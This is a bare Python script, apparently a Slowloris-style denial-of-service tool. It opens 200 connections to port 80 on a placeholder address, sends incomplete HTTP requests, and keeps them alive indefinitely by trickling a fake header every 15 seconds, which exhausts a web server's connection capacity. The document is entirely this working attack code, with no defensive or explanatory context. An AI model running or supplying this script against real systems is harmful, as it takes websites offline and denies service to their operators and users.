import random
import socket
import time


def begin(host):
    connection = socket.socket()
    connection.connect((host, 80))
    connection.send(f"GET /?{random.randint(0, 2000)} HTTP/1.1\r\n".encode())
    return connection


open_ones = [begin("192.0.2.10") for _ in range(200)]
while True:
    for connection in open_ones:
        connection.send(f"X-a: {random.randint(1, 5000)}\r\n".encode())
    time.sleep(15)
